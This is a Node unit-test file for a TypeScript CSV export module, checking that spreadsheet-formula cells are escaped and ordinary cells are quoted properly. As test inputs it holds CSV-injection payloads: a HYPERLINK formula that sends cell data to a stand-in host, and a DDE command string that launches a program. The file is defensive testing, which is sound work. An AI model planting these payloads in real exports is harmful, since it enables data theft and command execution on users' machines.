// Unit tests of web/src/csv.ts under node's test runner: the module is
// transpiled with the project's TypeScript, then imported.
// Usage: node web/test/csv.test.mjs
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import ts from 'typescript';

const src = join(dirname(fileURLToPath(import.meta.url)), '..', 'src', 'csv.ts');
const js = ts.transpileModule(readFileSync(src, 'utf8'), {
  compilerOptions: { module: ts.ModuleKind.ES2022, target: ts.ScriptTarget.ES2022 },
}).outputText;
const { csvCell, chronologyCsv } = await import('data:text/javascript,' + encodeURIComponent(js));

test('cells a spreadsheet would run as formulas are shown as text', () => {
  assert.equal(csvCell('=HYPERLINK("http://x.example/?"&A1,"click")'), '"\'=HYPERLINK(""http://x.example/?""&A1,""click"")"');
  assert.equal(csvCell('+1 555 0100'), '"\'+1 555 0100"');
  assert.equal(csvCell('-2+3'), '"\'-2+3"');
  assert.equal(csvCell('@SUM(A1:A9)'), '"\'@SUM(A1:A9)"');
  assert.equal(csvCell('\t=1+1'), '"\'\t=1+1"');
  assert.equal(csvCell('\r=1+1'), '"\'\r=1+1"');
  assert.equal(csvCell(['=1+1', 'b']), '"\'=1+1; b"');
});

test('other cells are unchanged, quoted only when they must be', () => {
  assert.equal(csvCell('Wen Hao'), 'Wen Hao');
  assert.equal(csvCell('a, b'), '"a, b"');
  assert.equal(csvCell('say "no"'), '"say ""no"""');
  assert.equal(csvCell('line\nbreak'), '"line\nbreak"');
  assert.equal(csvCell('2+2=4'), '2+2=4');
  assert.equal(csvCell(7500), '7500');
  assert.equal(csvCell(null), '');
  assert.equal(csvCell(undefined), '');
});

test('the chronology CSV neutralizes a hostile note', () => {
  const csv = chronologyCsv([
    { id: 'evt_1', type: 'note', date: '2026-01-06', subject: 'per_wen_hao', note: '=cmd|\' /C calc\'!A0' },
  ]);
  const [head, row] = csv.split('\r\n');
  assert.equal(head, 'date,type,id,matter,note');
  assert.equal(row, '2026-01-06,note,evt_1,,"\'=cmd|\' /C calc\'!A0"');
});
